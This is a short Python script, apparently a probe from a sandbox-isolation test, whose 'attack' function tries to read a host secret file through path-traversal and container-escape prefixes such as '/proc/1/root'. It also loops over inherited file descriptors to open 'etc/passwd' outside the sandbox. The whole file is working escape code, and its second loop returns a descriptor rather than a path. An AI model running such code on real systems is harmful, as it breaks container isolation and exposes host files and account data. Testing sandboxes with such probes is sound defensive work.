"""Read a file of the host, by its path and through every directory that might lead to it."""
import os


def attack(target):
    ways_up = ("", "/..", "/../..", "/tmp/../..", "/proc/1/root", "/proc/self/root/..")
    paths = [up + target["secret_file"] for up in ways_up]
    for path in paths:
        try:
            if open(path).read() == target["secret"]:
                return path
        except OSError:
            pass
    for fd in range(1024):
        try:
            return os.open("etc/passwd", os.O_RDONLY, dir_fd=fd)
        except OSError:
            pass
